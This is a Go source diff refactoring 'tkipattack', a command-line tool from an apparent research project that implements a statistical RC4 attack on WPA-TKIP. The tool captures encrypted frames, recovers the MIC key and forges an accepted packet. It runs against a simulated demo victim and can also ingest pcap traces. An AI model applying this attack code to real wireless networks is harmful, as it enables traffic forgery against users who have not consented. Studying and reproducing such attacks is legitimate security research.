@@ -45,23 +45,16 @@
 package main
 
 import (
-	"bytes"
-	"context"
 	"errors"
 	"flag"
 	"fmt"
-	"math/rand"
 	"os"
-	"os/signal"
 	"time"
 
 	"rc4break/internal/cliutil"
-	"rc4break/internal/fleet"
+	"rc4break/internal/job"
 	"rc4break/internal/netsim"
-	"rc4break/internal/obs"
 	"rc4break/internal/online"
-	"rc4break/internal/packet"
-	"rc4break/internal/rc4"
 	"rc4break/internal/snapshot"
 	"rc4break/internal/tkip"
 	"rc4break/internal/trace"
@@ -91,9 +84,6 @@ func main() {
 	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
 	flag.Parse()
 
-	msduLen := packet.HeaderSize + 7
-	positions := tkip.TrailerPositions(msduLen)
-
 	if *writePcap != "" {
 		// Writing the stream needs no trained model: frames are a pure
 		// function of the demo session and the TSC sequence.
@@ -102,52 +92,66 @@ func main() {
 		}
 		return
 	}
-	var pcapPaths []string
+	spec := job.Spec{Attack: "tkip", Mode: *mode, Seed: *seed, Workers: *workers}
 	if *pcapIn != "" {
 		var err error
-		pcapPaths, err = cliutil.ExpandGlobs(*pcapIn)
-		if err != nil {
+		if spec.Traces, err = cliutil.ExpandGlobs(*pcapIn); err != nil {
 			fatal(fmt.Errorf("-pcap: %w", err))
 		}
 	}
 
-	model := loadOrTrainModel(*modelPath, positions[len(positions)-1], *keysPerTSC, *workers)
-
-	session := tkip.DemoSession()
-	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
-	attack, err := tkip.NewAttack(model, positions)
+	// Shards must share one model: capture snapshots embed its fingerprint
+	// and refuse to resume or merge under a different one.
+	prefix := "[1/4]"
+	model, err := job.LoadOrTrainModel(*modelPath, *keysPerTSC, *workers, func(format string, args ...interface{}) {
+		fmt.Printf(prefix+" "+format+"\n", args...)
+		prefix = "     "
+	})
 	if err != nil {
 		fatal(err)
 	}
-	attack.Workers = *workers
+	spec.Model = model
 
 	if *fleetWorker != "" {
-		runFleetWorker(*fleetWorker, *workerID, model, positions, session, victim, *workers, pcapPaths)
+		// Model-mode lanes draw from the lane's derived seed; exact-mode
+		// lanes replay the victim's TSC stream from the lane's absolute
+		// offset (an O(1) skip), or carve it out of the -pcap trace shards.
+		if err := spec.RunWorker(*fleetWorker, *workerID); err != nil {
+			fatal(err)
+		}
 		return
 	}
-
-	if *resume != "" {
-		resumed, err := tkip.ReadAttackSnapshotFile(*resume, model)
-		if err != nil {
-			fatal(fmt.Errorf("resume %s: %w", *resume, err))
-		}
-		resumed.Workers = *workers
-		attack = resumed
-		fmt.Printf("      resumed %s: %d captured frames\n", *resume, attack.Frames)
-	}
-
 	if *onlineMode {
 		if *collectOnly || *merge != "" {
 			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
 		}
-		if pcapPaths != nil {
+		if spec.Traces != nil {
 			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
 		}
+	}
+
+	var evidence []byte
+	if *resume != "" {
+		if evidence, err = os.ReadFile(*resume); err != nil {
+			fatal(fmt.Errorf("resume %s: %w", *resume, err))
+		}
+	}
+	rt, err := job.New(spec, evidence)
+	if err != nil {
+		fatal(err)
+	}
+	if *resume != "" {
+		fmt.Printf("      resumed %s: %d captured frames\n", *resume, rt.Observed())
+	}
+	attack := rt.Decoder.(*tkip.Attack)
+	oracle := rt.Oracle.(*tkip.TrailerOracle)
+
+	if *onlineMode {
 		depth := *maxPerRound
 		if depth <= 0 {
 			depth = *maxDepth
 		}
-		runOnline(attack, session, victim, *mode, *seed, *copies,
+		runOnline(rt, *mode, *copies,
 			online.Cadence{First: *firstDecode, Every: *decodeEvery},
 			depth, *checkpoint, *checkpointEvery, *jsonOut)
 		return
@@ -158,66 +162,18 @@ func main() {
 		remaining = *copies - attack.Frames
 	}
 	displayMode := *mode
-	if *pcapIn != "" {
+	if spec.Traces != nil {
 		displayMode = "trace"
 	}
 	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", remaining, displayMode)
 	start := time.Now()
-	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
-	if *mode == "exact" {
-		// The exact stream is the fixed session's TSC sequence; -seed plays
-		// no part in it, so every exact capture shares one stream identity —
-		// two exact shards would observe identical frames and must not merge.
-		streamID.Seed = 0
-	}
-	if pcapPaths != nil {
-		// A trace-fed shard's stream identity is the file set: resuming it
-		// skips the frames the snapshot already holds, and merging two
-		// ingests of the same files is rejected as double-counting.
-		streamID = snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(pcapPaths)}
-	}
-	switch {
-	case remaining == 0:
+	if remaining == 0 {
 		fmt.Println("      shard target already reached by resumed capture")
-	case pcapPaths != nil:
-		if attack.Frames > 0 && attack.Stream != streamID {
-			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, -pcap names a different capture set",
-				attack.Stream.Mode, attack.Stream.Seed))
-		}
-		attack.Stream = streamID
-		ingestStart := time.Now()
-		stats, err := tkip.CollectTraceFiles(attack, victim.FrameLen(),
-			pcapPaths, attack.Frames, remaining, false)
-		if err != nil {
-			fatal(err)
-		}
-		fmt.Printf("      trace ingest: %d packets, %d TKIP frames (%d matched, %d dup, %d frag, %d other-length, %d skipped)\n",
-			stats.Packets, stats.Frames, stats.Matched, stats.Duplicates, stats.Fragmented, stats.OtherLength, stats.Skipped)
-		mb := float64(stats.Bytes) / (1 << 20)
-		fmt.Printf("      ingested %.1f MB of capture payload at %.1f MB/s\n",
-			mb, mb/time.Since(ingestStart).Seconds())
-	case *mode == "exact":
-		// An exact-mode shard can only be continued on its own TSC
-		// stream: the fast-forward in collectExact assumes the snapshot's
-		// frames came from exactly this victim.
-		if attack.Frames > 0 && attack.Stream != streamID {
-			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
-				attack.Stream.Mode, attack.Stream.Seed, *seed))
-		}
-		attack.Stream = streamID
-		collectExact(attack, victim, remaining, *checkpoint, *checkpointEvery)
-	case *mode == "model":
-		attack.Stream = streamID
-		trailer := trueTrailer(session, victim.MSDU)
-		// A topped-up shard must not replay the noise draws already folded
-		// into the resumed snapshot (same seed, same sequence): derive a
-		// distinct stream from the continuation point.
-		rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(*seed, attack.Frames)))
-		if err := attack.SimulateCaptures(rng, trailer, remaining); err != nil {
-			fatal(err)
-		}
-	default:
-		fatal(fmt.Errorf("unknown mode %q", *mode))
+	} else if err := rt.Checkpointed(*checkpoint, *checkpointEvery)(*copies); err != nil {
+		fatal(err)
+	}
+	if summary := rt.Summary(); summary != "" {
+		fmt.Printf("      %s\n", summary)
 	}
 	collectTime := time.Since(start)
 	fmt.Printf("      captured in %v (shard frames: %d; live air time at %d pps: %.1f h)\n",
@@ -225,7 +181,7 @@ func main() {
 		float64(attack.Frames)/netsim.TKIPInjectionPerSecond/3600)
 
 	if *checkpoint != "" {
-		if err := attack.WriteSnapshotFile(*checkpoint); err != nil {
+		if err := rt.SaveFile(*checkpoint); err != nil {
 			fatal(err)
 		}
 		fmt.Printf("      snapshot -> %s\n", *checkpoint)
@@ -262,7 +218,7 @@ func main() {
 
 	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
 	start = time.Now()
-	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, *maxDepth)
+	micKey, depth, err := attack.RecoverTrailer(oracle.DA, oracle.SA, oracle.MSDU, *maxDepth)
 	recoverTime := time.Since(start)
 	result := cliutil.RunResult{
 		Attack:       "tkip",
@@ -285,20 +241,21 @@ func main() {
 	result.Plaintext = fmt.Sprintf("%x", micKey[:])
 	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, recoverTime.Round(time.Millisecond))
 	fmt.Printf("      recovered MIC key: %x\n", micKey)
-	if micKey == session.MICKey {
+	if micKey == tkip.DemoSession().MICKey {
 		fmt.Println("      MIC key matches the real key")
 	} else {
 		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
 	}
 
-	forgeDemo(session, victim.MSDU, micKey, "[4/4]")
+	forgeDemo(oracle.MSDU, micKey, "[4/4]")
 	emitJSON(*jsonOut, result)
 }
 
 // forgeDemo demonstrates impact: a packet forged under the recovered MIC
 // key must be accepted by the network.
-func forgeDemo(session *tkip.Session, msdu []byte, micKey [8]byte, phase string) {
+func forgeDemo(msdu []byte, micKey [8]byte, phase string) {
 	fmt.Printf("%s forging a packet with the recovered MIC key...\n", phase)
+	session := tkip.DemoSession()
 	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
 	forged := attacker.Encapsulate(msdu, 0xF00D)
 	if _, err := session.Decapsulate(forged); err != nil {
@@ -315,88 +272,33 @@ func forgeDemo(session *tkip.Session, msdu []byte, micKey [8]byte, phase string)
 // trailer. Decode points are absolute frame counts, so a checkpointed run
 // killed and resumed continues on exactly the cadence an uninterrupted run
 // would use.
-func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVictim, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
-	if budget <= attack.Frames {
-		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, attack.Frames))
+func runOnline(rt *job.Runtime, mode string, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
+	if budget <= rt.Observed() {
+		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, rt.Observed()))
 	}
-	oracle := &tkip.TrailerOracle{
-		DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
-		Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
-	}
-	streamID := snapshot.StreamInfo{Mode: mode, Seed: seed}
-	if mode == "exact" {
-		streamID.Seed = 0 // the exact stream is the session's TSC sequence
-	}
-	if attack.Frames > 0 && attack.Stream != streamID {
-		fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request %s/seed %d",
-			attack.Stream.Mode, attack.Stream.Seed, mode, streamID.Seed))
-	}
-	attack.Stream = streamID
-
-	var captureTo func(uint64) error
-	switch mode {
-	case "model":
-		trailer := trueTrailer(session, victim.MSDU)
-		captureTo = func(target uint64) error {
-			// Chunks after the first derive a fresh noise stream from the
-			// continuation point (same rule as a resumed offline top-up);
-			// absolute decode points make a resumed online run chunk — and
-			// draw — identically to an uninterrupted one.
-			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(seed, attack.Frames)))
-			return attack.SimulateCaptures(rng, trailer, target-attack.Frames)
-		}
-	case "exact":
-		if attack.Frames > 0 {
-			fmt.Printf("      fast-forwarding victim past %d resumed frames...\n", attack.Frames)
-			victim.Skip(attack.Frames)
-		}
-		sniffer := netsim.NewSniffer(victim.FrameLen())
-		captureTo = func(target uint64) error {
-			err := cliutil.CheckpointLoop{
-				Iterations: target - attack.Frames,
-				Path:       checkpoint,
-				Every:      checkpointEvery,
-				Unit:       "frames",
-				Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
-				Progress:   func() uint64 { return attack.Frames },
-				Step: func() (bool, error) {
-					f := victim.Transmit()
-					if !sniffer.Filter(f) {
-						return false, nil
-					}
-					attack.Observe(f)
-					return true, nil
-				},
-			}.Run()
-			if errors.Is(err, cliutil.ErrInterrupted) {
-				os.Exit(130)
-			}
-			return err
-		}
-	default:
-		fatal(fmt.Errorf("unknown mode %q", mode))
-	}
-
+	oracle := rt.Oracle.(*tkip.TrailerOracle)
 	fmt.Printf("[2/4] online closed loop: budget %d frames, first decode at %d, %s cadence, %d candidates/round...\n",
 		budget, cad.First, cad, depth)
 	res, err := online.Run(online.Config{
-		Decoder:       attack,
+		Decoder:       rt.Decoder,
 		Oracle:        oracle,
 		Cadence:       cad,
 		MaxCandidates: depth,
 		Budget:        budget,
-		CaptureTo:     captureTo,
-		Checkpoint: cliutil.OnlineCheckpoint(checkpoint, "frames",
-			attack.WriteSnapshotFile, func() uint64 { return attack.Frames }),
-		Logf: cliutil.IndentLogf,
+		Feed:          online.FeedFunc(rt.Checkpointed(checkpoint, checkpointEvery)),
+		Checkpoint:    cliutil.OnlineCheckpoint(checkpoint, rt.Unit, rt.SaveFile, rt.Observed),
+		Logf:          cliutil.IndentLogf,
 	})
+	if errors.Is(err, cliutil.ErrInterrupted) {
+		fatal(err)
+	}
 	if err != nil {
 		fmt.Printf("      online attack failed: %v (budget %d frames; try a deeper walk or a larger budget)\n", err, budget)
 		emitJSON(jsonOut, cliutil.OnlineRunResult("tkip", mode, res, err))
 		os.Exit(1)
 	}
 	if checkpoint != "" {
-		if err := attack.WriteSnapshotFile(checkpoint); err != nil {
+		if err := rt.SaveFile(checkpoint); err != nil {
 			fatal(err)
 		}
 	}
@@ -408,95 +310,13 @@ func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVi
 		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
 		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
 	fmt.Printf("      recovered MIC key: %x\n", oracle.MICKey)
-	if oracle.MICKey == session.MICKey {
+	if oracle.MICKey == tkip.DemoSession().MICKey {
 		fmt.Println("      MIC key matches the real key")
 	}
-	forgeDemo(session, victim.MSDU, oracle.MICKey, "[4/4]")
+	forgeDemo(oracle.MSDU, oracle.MICKey, "[4/4]")
 	jres := cliutil.OnlineRunResult("tkip", mode, res, nil)
 	jres.Plaintext = fmt.Sprintf("%x", oracle.MICKey[:])
 	emitJSON(jsonOut, jres)
-}
-
-// loadOrTrainModel implements the train-once workflow: with -model set and
-// present on disk the model is reloaded (validated by the snapshot
-// envelope's checksum), otherwise it is trained and — when -model is set —
-// persisted for every later shard to share. Shards must share one model:
-// capture snapshots embed its fingerprint and refuse to resume or merge
-// under a different one.
-func loadOrTrainModel(path string, positions int, keysPerTSC uint64, workers int) *tkip.PerTSCModel {
-	if path != "" {
-		model, err := tkip.LoadModelFile(path)
-		switch {
-		case err == nil:
-			if model.Positions < positions {
-				fatal(fmt.Errorf("model %s covers %d positions, attack needs %d", path, model.Positions, positions))
-			}
-			fmt.Printf("[1/4] loaded per-TSC model from %s (%d keys x 256 classes x %d positions)\n",
-				path, model.Keys, model.Positions)
-			return model
-		case !os.IsNotExist(err):
-			// Anything but "absent" must not silently retrain: that would
-			// overwrite the artifact and orphan every shard captured
-			// against it.
-			fatal(fmt.Errorf("load model %s: %w", path, err))
-		}
-	}
-	fmt.Printf("[1/4] training per-TSC model: %d keys x 256 classes x %d positions...\n", keysPerTSC, positions)
-	start := time.Now()
-	model, err := tkip.Train(tkip.TrainConfig{
-		Positions:  positions,
-		KeysPerTSC: keysPerTSC,
-		Workers:    workers,
-	})
-	if err != nil {
-		fatal(err)
-	}
-	fmt.Printf("      trained in %v\n", time.Since(start).Round(time.Millisecond))
-	if path != "" {
-		if err := model.SaveFile(path); err != nil {
-			fatal(err)
-		}
-		fmt.Printf("      model -> %s\n", path)
-	}
-	return model
-}
-
-// collectExact captures real frames off the simulated air. The loop
-// checkpoints every checkpointEvery frames and flushes on Ctrl-C/SIGTERM;
-// on resume the victim's TSC sequence is fast-forwarded past the frames the
-// snapshot already holds (each transmission carries a unique TSC, so
-// transmissions == captures), making an interrupted-and-resumed capture
-// identical to an uninterrupted one.
-func collectExact(attack *tkip.Attack, victim *netsim.WiFiVictim, remaining uint64, checkpoint string, checkpointEvery uint64) {
-	if attack.Frames > 0 {
-		fmt.Printf("      fast-forwarding victim past %d resumed frames...\n", attack.Frames)
-		victim.Skip(attack.Frames) // frames are independently keyed by TSC: O(1)
-	}
-
-	sniffer := netsim.NewSniffer(victim.FrameLen())
-	err := cliutil.CheckpointLoop{
-		Iterations: remaining,
-		Path:       checkpoint,
-		Every:      checkpointEvery,
-		Unit:       "frames",
-		Save:       func() error { return attack.WriteSnapshotFile(checkpoint) },
-		Progress:   func() uint64 { return attack.Frames },
-		Step: func() (bool, error) {
-			f := victim.Transmit()
-			if !sniffer.Filter(f) {
-				return false, nil
-			}
-			attack.Observe(f)
-			return true, nil
-		},
-	}.Run()
-	if errors.Is(err, cliutil.ErrInterrupted) {
-		os.Exit(130)
-	}
-	if err != nil {
-		fatal(err)
-	}
-	fmt.Printf("      sniffer captured %d frames, dropped %d\n", sniffer.Captured, sniffer.Dropped)
 }
 
 // emitJSON writes the machine-readable result as the final stdout line
@@ -504,101 +324,6 @@ func collectExact(attack *tkip.Attack, victim *netsim.WiFiVictim, remaining uint
 func emitJSON(enabled bool, r cliutil.RunResult) {
 	if err := r.Emit(enabled); err != nil {
 		fatal(err)
-	}
-}
-
-// runFleetWorker joins a cmd/fleetd coordinator and collects leased capture
-// lanes until the coordinator declares the run over. The worker's model
-// must be the coordinator's (fingerprint-checked at the door). Model-mode
-// lanes draw from the lane's derived seed; exact-mode lanes replay the
-// victim's TSC stream from the lane's absolute offset (an O(1) skip —
-// frames are independently keyed by TSC).
-func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, session *tkip.Session, victim *netsim.WiFiVictim, workers int, pcapPaths []string) {
-	fp, err := model.Fingerprint()
-	if err != nil {
-		fatal(err)
-	}
-	trailer := trueTrailer(session, victim.MSDU)
-	proc := id
-	if proc == "" {
-		proc = "tkipattack-worker"
-	}
-	w := &fleet.Worker{
-		Addr:        addr,
-		ID:          id,
-		Attack:      "tkip",
-		Fingerprint: fp,
-		Logf:        cliutil.IndentLogf,
-		// Per-lane collect spans ride each evidence upload; a traced
-		// coordinator folds them under its own trace, an untraced one
-		// ignores them.
-		Tracer: obs.NewJournal(proc, 1024),
-		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
-			a, err := collectTKIPLane(model, positions, session, trailer, job, lease, workers, pcapPaths)
-			if err != nil {
-				return nil, err
-			}
-			var buf bytes.Buffer
-			if err := a.WriteSnapshot(&buf); err != nil {
-				return nil, err
-			}
-			return buf.Bytes(), nil
-		},
-	}
-	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
-	defer stop()
-	fmt.Printf("[2/2] fleet worker joining %s...\n", addr)
-	stats, err := w.Run(ctx)
-	fmt.Printf("      worker done: %d lanes (%d frames) uploaded, %d rejected as already covered\n",
-		stats.Lanes, stats.Records, stats.Rejected)
-	if stats.StopReason != "" {
-		fmt.Printf("      coordinator: %s\n", stats.StopReason)
-	}
-	if err != nil {
-		fatal(err)
-	}
-}
-
-// collectTKIPLane captures one leased lane into a fresh capture accumulator
-// stamped with the lane's stream identity.
-func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Session, trailer []byte, job fleet.JobSpec, lease fleet.Lease, workers int, pcapPaths []string) (*tkip.Attack, error) {
-	switch job.Mode {
-	case "model":
-		if pcapPaths != nil {
-			return nil, errors.New("-pcap serves exact-mode jobs: a trace is one concrete capture stream, not a statistical model")
-		}
-		return tkip.CollectLane(model, positions, trailer, lease.Stream,
-			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
-	case "exact":
-		a, err := tkip.NewAttack(model, positions)
-		if err != nil {
-			return nil, err
-		}
-		a.Workers = workers
-		a.Stream = lease.Stream
-		if pcapPaths != nil {
-			// Serve the lane from the trace shards: the files concatenate
-			// into one logical frame stream and the lane's range is carved
-			// out strictly — a shard set that cannot cover the lane fails
-			// loudly rather than uploading short evidence.
-			v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
-			_, err := tkip.CollectTraceFiles(a, v.FrameLen(), pcapPaths, lease.Start, lease.Records, true)
-			if err != nil {
-				return nil, err
-			}
-			return a, nil
-		}
-		v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
-		v.Skip(lease.Start) // frames are independently keyed by TSC: O(1)
-		sniffer := netsim.NewSniffer(v.FrameLen())
-		for i := uint64(0); i < lease.Records; i++ {
-			if f := v.Transmit(); sniffer.Filter(f) {
-				a.Observe(f)
-			}
-		}
-		return a, nil
-	default:
-		return nil, fmt.Errorf("unknown fleet mode %q", job.Mode)
 	}
 }
 
@@ -634,17 +359,12 @@ func writeTKIPPcap(path string, n uint64) error {
 	return nil
 }
 
-// trueTrailer decrypts one encapsulation with the real key to obtain the
-// plaintext MIC‖ICV the model-mode simulation feeds the sampler.
-func trueTrailer(s *tkip.Session, msdu []byte) []byte {
-	f := s.Encapsulate(msdu, 0)
-	key := tkip.MixKey(s.TK, s.TA, 0)
-	plain := make([]byte, len(f.Body))
-	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
-	return plain[len(msdu):]
-}
-
+// fatal exits 1 on err, or 130 on an interrupted capture (whose checkpoint
+// flush the capture loop already reported).
 func fatal(err error) {
+	if errors.Is(err, cliutil.ErrInterrupted) {
+		os.Exit(130)
+	}
 	fmt.Fprintln(os.Stderr, "tkipattack:", err)
 	os.Exit(1)
 }
